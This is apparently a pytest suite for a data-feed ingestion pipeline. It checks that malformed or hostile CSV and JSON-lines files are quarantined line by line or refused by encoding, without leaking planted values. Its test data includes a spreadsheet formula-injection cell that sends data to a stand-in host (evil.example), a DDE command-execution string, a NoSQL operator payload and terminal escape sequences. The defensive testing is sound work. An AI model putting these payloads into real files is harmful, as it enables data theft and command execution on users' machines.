"""Attack: hostile and messy files through the readers. Every physical line is loaded or quarantined with a reason,
a file in the wrong encoding (or not text at all) is refused naming what it is, and no planted value ever appears
in a reason or an error.

The files are generated here, at test time, and go through ``ingest_partition`` on the small ``acme`` contract
(tests/feeds/fixtures/contracts/acme.yml), through ``placelink ingest``, and (property-based, ``hypothesis``)
through the readers and ``parse_file`` directly.
"""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
import json
import re
import zipfile
from pathlib import Path

import duckdb
import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from orchestration.cli import app
from orchestration.lib.contracts import Format, load_contracts
from orchestration.lib.errors import PlacelinkError
from orchestration.lib.feeds import ingest_partition, read_opt_outs
from orchestration.lib.feeds.load import parse_file
from orchestration.lib.feeds.readers import MAX_FIELD_CHARS, MAX_RAW_CHARS, read_csv, read_jsonl
from tests.feeds.conftest import CONTRACTS, VISITS_HEADER

MARK = "MARKERZQX"  # planted in hostile values: must never show in a reason, an error or a log line

#: the same physical-line split the partner's tools make: \r\n, \r or \n (NOT str.splitlines, which also splits
#: on \x0b, \x0c, \x1c-\x1e, \x85 ...)
_EOL = re.compile(rb"\r\n|\r|\n")


@pytest.fixture(scope="module")
def acme():
    return load_contracts(CONTRACTS)


def _visit(ref: str, forename: str = "Ann", surname: str = "Smith", notes: str = "", score: str = "1") -> str:
    return f"{ref};03/03/2025;{forename};{surname};01/01/1980;F;SH1 2AB;;{notes};{score}"


def _drop(home: Path, feed: str, data: bytes, name: str = "2025-03-04.csv") -> Path:
    path = home / "landing" / "acme" / feed / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


def _visits_bytes(rows: list[str], encoding: str = "windows-1252", header: str = VISITS_HEADER) -> bytes:
    return ("\r\n".join([header, *rows]) + "\r\n").encode(encoding)


def _load(home: Path, feed, partition: str = "2025-03-01"):
    with duckdb.connect(str(home / "identifiable.duckdb")) as con:
        return ingest_partition(con, feed, partition, home / "landing", home=home,
                                opt_outs=read_opt_outs(home / "reference"))


def _q(home: Path, sql: str) -> list[tuple]:
    with duckdb.connect(str(home / "identifiable.duckdb"), read_only=True) as con:
        return con.execute(sql).fetchall()


def _data_lines(data: bytes, encoding: str = "windows-1252") -> list[int]:
    """1-based numbers of the non-blank physical lines after the header, counted from the bytes alone."""
    lines = _EOL.split(data)
    if lines and lines[-1] == b"":
        lines.pop()
    return [i for i, line in enumerate(lines, start=1)
            if i > 1 and line.decode(encoding, errors="surrogateescape").strip()]


def _assert_every_line_accounted(home: Path, res, data: bytes, continued: frozenset = frozenset()
                                 ) -> tuple[set, dict]:
    """Each data line of the file (counted here from the bytes) starts a loaded or a quarantined row, or is in
    ``continued`` (the later lines of a record whose quoted field legitimately spans lines)."""
    (f,) = res.files
    expected = set(_data_lines(data))
    loaded = {line for (line,) in _q(home, "SELECT _line FROM raw.acme__visits")}
    quarantined = dict(_q(home, "SELECT line, reason FROM ops.quarantine"))
    assert not loaded & quarantined.keys()
    assert loaded | quarantined.keys() | continued == expected   # nothing swallowed, nothing invented
    assert f.rows_received == f.rows_loaded + f.rows_quarantined
    assert f.rows_loaded == len(loaded) and f.rows_quarantined == len(quarantined)
    assert f.lines_received == len(expected) == f.lines_loaded + f.lines_quarantined
    return loaded, quarantined


# --- a stray quote ------------------------------------------------------------------------------------------

def test_a_stray_quote_costs_only_its_own_line(acme_home, acme):
    """The issue's police CSV: 10 lines, a stray `"` on line 4. Before: "received 3 = loaded 2 + quarantined 1",
    7 lines in no table. Now line 4 alone is quarantined and lines 5-10 load."""
    rows = [_visit(f"V{i}") for i in range(2, 11)]
    rows[2] = _visit("V4", surname=f'"{MARK}')               # line 4: the quote never closes
    data = _visits_bytes(rows)
    _drop(acme_home, "visits", data)
    res = _load(acme_home, acme.feed("acme", "visits"))
    loaded, quarantined = _assert_every_line_accounted(acme_home, res, data)
    assert loaded == set(range(2, 11)) - {4}
    assert list(quarantined) == [4] and quarantined[4].startswith("unbalanced_quote:")
    assert MARK not in quarantined[4] and MARK not in str(res.metadata())
    assert res.quarantined_by_reason == {"unbalanced_quote": 1}
    assert (res.rows_received, res.rows_loaded, res.rows_quarantined) == (9, 8, 1)


def test_two_stray_quotes_that_pair_up_do_not_swallow_the_lines_between(acme_home, acme):
    """A quote opened on line 3 and a quote on line 7 would make one 5-line "record" (wrong field count): each
    runaway line is quarantined on its own and the lines between load."""
    rows = [_visit(f"V{i}") for i in range(2, 11)]
    rows[1] = _visit("V3", forename=f'"{MARK}')
    rows[5] = _visit("V7", notes='x"')
    data = _visits_bytes(rows)
    _drop(acme_home, "visits", data)
    res = _load(acme_home, acme.feed("acme", "visits"))
    loaded, quarantined = _assert_every_line_accounted(acme_home, res, data)
    assert 3 in quarantined and {4, 5, 6, 8, 9, 10} <= loaded
    assert all(MARK not in r for r in quarantined.values())


def test_a_quoted_newline_that_closes_is_one_record(acme_home, acme):
    """A real address with a newline inside a closed quote: one row covering two physical lines, loaded."""
    rows = [_visit("V2"), _visit("V3", surname='"Smith\r\nJones"'), _visit("V4"), "", _visit("V6")]
    data = _visits_bytes(rows)
    _drop(acme_home, "visits", data)
    res = _load(acme_home, acme.feed("acme", "visits"))
    loaded, quarantined = _assert_every_line_accounted(acme_home, res, data, continued=frozenset({4}))
    assert not quarantined and loaded == {2, 3, 5, 7}         # line 6 is blank: not a record
    (f,) = res.files
    assert (f.rows_received, f.lines_received, f.lines_loaded) == (4, 5, 5)
    assert _q(acme_home, "SELECT surname FROM raw.acme__visits WHERE _line = 3") == [("Smith\r\nJones",)]


def test_an_unclosed_quote_on_the_last_line_is_quarantined_not_loaded(acme_home, acme):
    rows = [_visit("V2"), _visit("V3", score=f'"{MARK}')]    # the file ends inside the quote
    data = _visits_bytes(rows)
    _drop(acme_home, "visits", data)
    res = _load(acme_home, acme.feed("acme", "visits"))
    loaded, quarantined = _assert_every_line_accounted(acme_home, res, data)
    assert loaded == {2} and list(quarantined) == [3] and quarantined[3].startswith("unbalanced_quote:")


# --- encodings -------------------------------------------------------------------------------------------------

def _zip_of(data: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("visits.csv", data)
    return buf.getvalue()


_TEXT = _visits_bytes([_visit("V2", forename=f"Zoë{MARK}")], "utf-8").decode("utf-8")
ENCODED = {
    # name: (bytes, what the refusal must name)
    "utf-8": (_TEXT.encode("utf-8"), "UTF-8"),
    "utf-8 bom": (codecs.BOM_UTF8 + _TEXT.encode("utf-8"), "UTF-8 (with a byte-order mark)"),
    "utf-16 le bom": (codecs.BOM_UTF16_LE + _TEXT.encode("utf-16-le"), "UTF-16 LE (with a byte-order mark)"),
    "utf-16 be bom": (codecs.BOM_UTF16_BE + _TEXT.encode("utf-16-be"), "UTF-16 BE (with a byte-order mark)"),
    "utf-16 le": (_TEXT.encode("utf-16-le"), "UTF-16 LE (no byte-order mark)"),
    "utf-32 le bom": (codecs.BOM_UTF32_LE + _TEXT.encode("utf-32-le"), "UTF-32 LE (with a byte-order mark)"),
    "zip (xlsx renamed .csv)": (_zip_of(_TEXT.encode("cp1252")), "a ZIP archive"),
    "pdf": (b"%PDF-1.7\n" + _TEXT.encode("cp1252"), "a PDF document"),
    "nul bytes": (b"\x00" * 4096 + _TEXT.encode("cp1252"), "binary data"),
}


@pytest.mark.parametrize("case", list(ENCODED))
def test_a_file_not_in_the_contracts_encoding_is_refused_naming_what_it_is(acme_home, acme, case):
    """The visits feed is windows-1252. Before: UTF-8 loaded as mojibake (ZoÃ«); UTF-16/binary failed as a
    "schema change" quoting garbled header bytes. Now the file is refused whole, the error names what the bytes
    are and what the contract says, and quotes nothing from the file."""
    data, what = ENCODED[case]
    _drop(acme_home, "visits", data)
    with pytest.raises(PlacelinkError) as err:
        _load(acme_home, acme.feed("acme", "visits"))
    text = str(err.value)
    assert f"this file is {what}" in text and "2025-03-04.csv" in text
    assert "cp1252" in text or "windows-1252" in text
    assert MARK not in text and "Zo" not in text and "Visit Ref" not in text
    assert not (acme_home / "identifiable.duckdb").exists() or not _q(
        acme_home, "SELECT * FROM information_schema.tables WHERE table_name = 'acme__visits'")


def test_a_utf8_byte_order_mark_on_ascii_text_loads(acme_home, acme):
    """Nothing is lost to a mark that changes no character: ASCII reads the same in windows-1252."""
    _drop(acme_home, "visits", codecs.BOM_UTF8 + _visits_bytes([_visit("V2"), _visit("V3")]))
    res = _load(acme_home, acme.feed("acme", "visits"))
    assert (res.rows_loaded, res.rows_quarantined) == (2, 0)


@pytest.mark.parametrize("case", ["utf-8", "utf-8 bom", "utf-16 le bom", "utf-16 be bom", "utf-16 le",
                                  "utf-32 le bom"])
def test_encoding_auto_reads_what_the_bytes_say(acme_home, acme, case):
    feed = acme.feed("acme", "visits")
    feed = feed.model_copy(update={"format": feed.format.model_copy(update={"encoding": "auto"})})
    _drop(acme_home, "visits", ENCODED[case][0])
    res = _load(acme_home, feed)
    assert (res.rows_loaded, res.rows_quarantined) == (1, 0)
    assert _q(acme_home, "SELECT forename FROM raw.acme__visits") == [(f"Zoë{MARK}",)]


def test_stray_bytes_in_a_right_file_quarantine_only_their_row(acme_home, acme):
    """Windows-1252 text with one byte 1252 leaves undefined: that row is bad_encoding, the file loads."""
    data = _visits_bytes([_visit("V2", forename="Zoë"), _visit("V3", surname=f"{MARK}\x81")], "latin-1")
    _drop(acme_home, "visits", data)
    res = _load(acme_home, acme.feed("acme", "visits"))
    loaded, quarantined = _assert_every_line_accounted(acme_home, res, data)
    assert loaded == {2} and quarantined[3].startswith("bad_encoding:") and MARK not in quarantined[3]
    assert _q(acme_home, "SELECT forename FROM raw.acme__visits") == [("Zoë",)]


# --- odd values -------------------------------------------------------------------------------------------------

def test_control_characters_and_huge_fields_are_quarantined_with_their_column(acme_home, acme):
    huge = MARK + "x" * (5 * 1024 * 1024)                     # a 5 MB cell
    rows = [_visit("V2"), _visit("V3", forename=f"{MARK}\x00"), _visit("V4", surname=f"\x1b[31m{MARK}"),
            _visit("V5", surname=huge), _visit("V6")]
    data = _visits_bytes(rows)
    _drop(acme_home, "visits", data)
    res = _load(acme_home, acme.feed("acme", "visits"))
    loaded, quarantined = _assert_every_line_accounted(acme_home, res, data)
    assert loaded == {2, 6}
    assert quarantined[3] == "control_character: column 'Forename' holds control characters (NUL, ESC ...)"
    assert quarantined[4] == "control_character: column 'Surname' holds control characters (NUL, ESC ...)"
    assert quarantined[5] == f"field_too_large: column 'Surname' holds more than {MAX_FIELD_CHARS:,} characters"
    raw = dict(_q(acme_home, "SELECT line, raw_text FROM ops.quarantine"))
    assert "\\x00" in raw[3] and "\x00" not in raw[3] and "\x1b" not in raw[4]   # stored printable
    assert len(raw[5]) < MAX_RAW_CHARS                         # the 5 MB is not copied into quarantine
    assert MARK not in str(res.metadata())


def test_formula_cells_load_verbatim_as_text(acme_home, acme):
    """Decision: a value that starts with = + - @ is data, not a formula (a phone number starts with +, a note
    with -); it loads exactly as sent and typed as text. Neutralising formulas is the job of any CSV written for
    a spreadsheet, and the published CSVs carry only aggregates and reference names (docs/governance.md)."""
    cells = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+44 7700 900123", "-", "@SUM(1+1)*cmd|' /C calc'!A0"]
    rows = [_visit(f"V{i}", forename=c.replace(";", ",")) for i, c in enumerate(cells, start=2)]
    data = _visits_bytes(rows)
    _drop(acme_home, "visits", data)
    res = _load(acme_home, acme.feed("acme", "visits"))
    loaded, quarantined = _assert_every_line_accounted(acme_home, res, data)
    assert not quarantined
    got = [v for (v,) in _q(acme_home, "SELECT forename FROM raw.acme__visits ORDER BY _line")]
    assert got == [c.replace(";", ",") for c in cells]


def test_out_of_range_numbers_are_quarantined_not_a_crash(acme_home, acme):
    """Before: a 20-digit Score crashed the whole load (int64 overflow in Arrow), nothing written."""
    rows = [_visit("V2"), _visit("V3", score="99999999999999999999"), _visit("V4", score="9" * 5000)]
    data = _visits_bytes(rows)
    _drop(acme_home, "visits", data)
    res = _load(acme_home, acme.feed("acme", "visits"))
    loaded, quarantined = _assert_every_line_accounted(acme_home, res, data)
    assert loaded == {2} and all(r.startswith("invalid_integer: column 'Score'") for r in quarantined.values())
    assert all("9999" not in r for r in quarantined.values())


def _attendance(aid: str, **kw) -> dict:
    row = {"attendance_id": aid, "nhs_number": None, "forename": "Kim", "surname": "Lee",
           "date_of_birth": "1999-09-09", "sex": "1", "postcode": "SH9 9ZZ",
           "arrival_datetime": "2025-03-03T11:30:00", "acuity": 2}
    return row | kw


def test_json_values_that_are_not_one_value_are_quarantined(acme_home, acme):
    """Before: {"forename": {"$ne": 1}} loaded as the name "{'$ne': 1}"; NaN loaded; a 25-digit acuity and a lone
    surrogate crashed the load; 100,000 nested brackets raised RecursionError."""
    lines = [json.dumps(_attendance("A1")),
             json.dumps(_attendance("A2", forename={"$ne": MARK})),
             json.dumps(_attendance("A3", surname=[MARK, "x"])),
             json.dumps(_attendance("A4", acuity=float("nan"))),            # json.dumps writes NaN
             json.dumps(_attendance("A5", acuity=10**25)),
             json.dumps(_attendance("A6", forename=MARK + "\ud800")),        # written as the escape \ud800
             json.dumps(_attendance("A7", surname=MARK + "\x00")),           # written as the escape \u0000
             '{"attendance_id": "A8", "x": ' + "[" * 100_000 + "]" * 100_000 + "}",
             json.dumps(_attendance("A9", postcode=MARK * 20_000)),
             "", json.dumps(_attendance("A11"))]
    data = ("\n".join(lines) + "\n").encode("utf-8")
    _drop(acme_home, "attendances", data, "2025-03-05.jsonl")
    res = _load(acme_home, acme.feed("acme", "attendances"))
    (f,) = res.files
    assert f.lines_received == 10 == f.lines_loaded + f.lines_quarantined
    reasons = dict(_q(acme_home, "SELECT line, reason FROM ops.quarantine"))
    assert {line for (line,) in _q(acme_home, "SELECT _line FROM raw.acme__attendances")} == {1, 11}
    assert reasons[2] == "not_a_scalar: column 'forename' holds a JSON object, not one string value"
    assert reasons[3] == "not_a_scalar: column 'surname' holds a JSON array, not one string value"
    assert reasons[4].startswith("invalid_json:") and reasons[8].startswith("invalid_json:")
    assert reasons[5].startswith("invalid_integer: column 'acuity'")
    assert reasons[6].startswith("bad_encoding: column 'forename'")
    assert reasons[7].startswith("control_character: column 'surname'")
    assert reasons[9].startswith("field_too_large: column 'postcode'")
    assert all(MARK not in r for r in reasons.values()) and MARK not in str(res.metadata())


def test_coerce_reasons_name_the_column_never_the_value(acme_home, acme):
    rows = [_visit("V2", score=MARK), _visit("V3").replace("03/03/2025", f"{MARK}/03/2025")]
    data = _visits_bytes(rows)
    _drop(acme_home, "visits", data)
    res = _load(acme_home, acme.feed("acme", "visits"))
    _, quarantined = _assert_every_line_accounted(acme_home, res, data)
    assert quarantined == {2: "invalid_integer: column 'Score' is not a whole number",
                           3: "invalid_date: column 'Visit Date' is not a valid date in the form %d/%m/%Y"}


# --- the CLI -------------------------------------------------------------------------------------------------

def test_cli_ingest_accounts_for_the_stray_quote_and_names_a_wrong_encoding(acme_home):
    common = ["--home", str(acme_home), "--feeds-dir", str(CONTRACTS)]
    rows = [_visit(f"V{i}") for i in range(2, 11)]
    rows[2] = _visit("V4", surname=f'"{MARK}')
    _drop(acme_home, "visits", _visits_bytes(rows))
    result = CliRunner().invoke(app, ["ingest", "--partner", "acme", "--feed", "visits", "--month", "2025-03",
                                      *common])
    assert result.exit_code == 0, result.output
    assert "received 9, loaded 8, quarantined 1" in result.output and "unbalanced_quote 1" in result.output
    assert MARK not in result.output
    _drop(acme_home, "visits", ENCODED["utf-16 le bom"][0], "2025-04-02.csv")
    result = CliRunner().invoke(app, ["ingest", "--partner", "acme", "--feed", "visits", "--month", "2025-04",
                                      *common])
    assert result.exit_code != 0 and isinstance(result.exception, PlacelinkError)
    assert "this file is UTF-16 LE (with a byte-order mark)" in " ".join(result.output.split())  # (rich wraps)
    assert MARK not in str(result.exception) + result.output


# --- property-based ----------------------------------------------------------------------------------------------

VISITS_FORMAT = Format(type="csv", encoding="windows-1252", delimiter=",")
HEADER = "a,b,c"
#: characters a messy windows-1252 export can hold: quotes, both delimiters, every line ending, TAB, accents
_MESSY = st.text(alphabet=st.sampled_from(list('ab "",;\r\n\t\'é€Zz09')), max_size=40)
_BYTES = st.sampled_from([b"", b"\x81", b"\x00", b"\x1b", b"\xc3\xa9", b"\r", b"\n", b'"', b"\xa0", b"\xff\xfe"])
# (no €: "é€€" is the bytes E9 80 80, valid UTF-8, and a windows-1252 file whose only non-ASCII text is valid UTF-8
# is refused as UTF-8 by design)
_CLEAN = st.text(alphabet=st.sampled_from(list('ab "",;\r\n\t\'éZz09 -=+@')), max_size=20)



def _field(text: str, how: str) -> str:
    return {"plain": text, "quoted": '"' + text.replace('"', '""') + '"', "stray": '"' + text}[how]


#: a line that looks like a record: three fields, each plain, properly quoted (may hold newlines) or opened by a
#: stray quote, so that legitimate multi-line records, runaways and loaded rows all occur
_ROWISH = st.lists(st.tuples(_MESSY, st.sampled_from(["plain", "plain", "quoted", "stray"])), min_size=3,
                   max_size=3).map(lambda fs: (",".join(_field(t, how) for t, how in fs) + "\r\n", b""))
_SETTINGS = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


@_SETTINGS
@given(body=st.lists(st.one_of(_ROWISH, st.tuples(_MESSY, _BYTES)), max_size=25))
def test_property_every_csv_data_line_is_in_exactly_one_row(tmp_path_factory, body):
    """Arbitrary text and bytes after a header: either the whole file is refused with a PlacelinkError, or the
    rows cover every non-blank physical line exactly once (counted here from the bytes, not by the reader)."""
    data = (HEADER + "\r\n").encode("cp1252") + b"".join(t.encode("cp1252") + b for t, b in body)
    path = tmp_path_factory.mktemp("csv") / "f.csv"
    path.write_bytes(data)
    try:
        drop = read_csv(path, VISITS_FORMAT)
    except PlacelinkError as exc:
        event(f"refused: {exc.message.split(';')[0][:40]}")
        return
    event(f"reasons: {sorted({(r.problem or 'loaded').split(':')[0] for r in drop.rows})}")
    event(f"rows over several lines: {any(r.lines > 1 for r in drop.rows)}")
    expected = _data_lines(data)
    assert drop.data_lines == len(expected)
    at = 0  # rows follow each other: each starts on the next uncovered data line and covers `lines` of them
    for row in drop.rows:
        assert row.line == expected[at]
        at += row.lines
        assert (row.values is None) == (row.problem is not None)
        if row.problem:
            assert row.problem.split(":", 1)[0] in {"unbalanced_quote", "wrong_column_count", "bad_encoding",
                                                     "control_character", "field_too_large", "unparseable"}
    assert at == len(expected)                                  # every data line once, none twice, none lost


@_SETTINGS
@given(rows=st.lists(st.lists(_CLEAN, min_size=3, max_size=3), max_size=20))
def test_property_csv_writer_output_reads_back_exactly(tmp_path_factory, rows):
    """Well-formed files (Python's csv.writer: quotes doubled, newlines inside quotes) give back exactly the rows."""
    buf = io.StringIO(newline="")
    writer = csv.writer(buf, lineterminator="\r\n")
    writer.writerow(["a", "b", "c"])
    writer.writerows(rows)
    path = tmp_path_factory.mktemp("csv") / "f.csv"
    path.write_bytes(buf.getvalue().encode("cp1252"))
    drop = read_csv(path, VISITS_FORMAT)
    assert [r.problem for r in drop.rows] == [None] * len(rows)
    assert [[r.values[k] for k in "abc"] for r in drop.rows] == rows


_JSON_VALUE = st.recursive(
    st.none() | st.booleans() | st.integers(min_value=-(10**30), max_value=10**30) | st.floats()
    | st.text(max_size=12),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=6)
_JSON_LINE = st.one_of(
    st.fixed_dictionaries({"attendance_id": st.text(max_size=6), "forename": _JSON_VALUE, "acuity": _JSON_VALUE,
                           "arrival_datetime": st.sampled_from(["2025-03-03T11:30:00", "2025-02-30T00:00:00", ""]),
                           "date_of_birth": _JSON_VALUE}).map(json.dumps),
    _JSON_VALUE.map(json.dumps),
    st.text(max_size=30))


@_SETTINGS
@given(lines=st.lists(st.tuples(_JSON_LINE, st.sampled_from(["\n", "\r\n", "\r"])), max_size=20))
def test_property_jsonl_parse_never_crashes_and_accounts_for_every_line(tmp_path_factory, acme, lines):
    """Any JSON lines file through the reader AND the typing loop (``parse_file``: coerce, person records, Arrow
    tables): no exception escapes, and loaded + quarantined lines = non-blank physical lines."""
    data = "".join(text + end for text, end in lines).encode("utf-8", errors="surrogatepass")
    path = tmp_path_factory.mktemp("jsonl") / "2025-03-05.jsonl"
    path.write_bytes(data)
    feed = acme.feed("acme", "attendances")
    try:
        drop = read_jsonl(path, feed.format, [c.name for c in feed.columns])
    except PlacelinkError:
        return
    expected = _data_lines(b"{}\n" + data, "utf-8")              # (no header line in JSON lines)
    assert drop.data_lines == len(expected) == sum(r.lines for r in drop.rows)
    pf = parse_file(feed, path, "f.jsonl", "x", dt.date(2025, 3, 1), dt.datetime(2025, 3, 31), set(), set())
    if pf.header_error is None and not pf.empty:
        assert pf.result.lines_loaded + pf.result.lines_quarantined == len(expected)
        assert pf.rows.num_rows == pf.result.rows_loaded


@_SETTINGS
@given(body=st.lists(st.one_of(_ROWISH, st.tuples(_MESSY, _BYTES)), max_size=15))
def test_property_visits_through_parse_file_never_crash(tmp_path_factory, acme, body):
    """Messy visits files through the whole typing loop: only PlacelinkError is ever raised (a refused file),
    and lines loaded + quarantined = the file's data lines."""
    data = (VISITS_HEADER + "\r\n").encode("cp1252") + b"".join(
        t.replace(",", ";").encode("cp1252") + b for t, b in body)
    path = tmp_path_factory.mktemp("visits") / "2025-03-04.csv"
    path.write_bytes(data)
    pf = parse_file(acme.feed("acme", "visits"), path, "v.csv", "x", dt.date(2025, 3, 1), dt.datetime(2025, 3, 31),
                    set(), set())
    if pf.header_error is None and not pf.empty:
        assert pf.result.lines_received == len(_data_lines(data))
        assert pf.result.lines_loaded + pf.result.lines_quarantined == pf.result.lines_received


def test_hostile_extra_header_names_are_reported_by_position(acme_home, acme):
    """An extra column (dropped) whose name holds an undefined byte and a terminal escape: a header cell outside the
    contract may be a partner's value (a header-less drop), so the run metadata and the CLI name it by position,
    never by its text, and the metadata stays storable (no raw control characters or lone surrogates)."""
    data = _visits_bytes([_visit("V2") + ";x"], "latin-1", header=VISITS_HEADER + ";Ex\x81tra\x1b[2J")
    _drop(acme_home, "visits", data)
    res = _load(acme_home, acme.feed("acme", "visits"))
    assert res.rows_loaded == 1
    dropped = [c for c in res.columns_dropped if c != "Notes"]
    assert dropped == ["column 11 of the file's header (not in the contract)"]
    json.dumps(res.metadata(), ensure_ascii=False).encode("utf-8")  # storable: no lone surrogates


def test_a_field_beyond_the_parsers_own_limit_is_one_quarantined_line(acme_home, acme):
    """11 million characters in one cell: the csv module itself gives up (its 10 MB limit); that line alone is
    quarantined and the lines after it load."""
    rows = [_visit("V2"), _visit("V3", surname=MARK + "y" * 11_000_000), _visit("V4")]
    data = _visits_bytes(rows)
    _drop(acme_home, "visits", data)
    res = _load(acme_home, acme.feed("acme", "visits"))
    loaded, quarantined = _assert_every_line_accounted(acme_home, res, data)
    assert loaded == {2, 4} and quarantined[3].startswith("field_too_large:") and MARK not in quarantined[3]


def test_a_workbook_feed_refuses_a_file_that_is_not_a_workbook(acme_home, acme):
    _drop(acme_home, "referrals", f"Referral ID,Referral Date\n1,{MARK}\n".encode(), "2025-03-06.xlsx")
    with pytest.raises(PlacelinkError) as err:
        _load(acme_home, acme.feed("acme", "referrals"))
    assert "cannot open the workbook" in str(err.value) and MARK not in str(err.value)
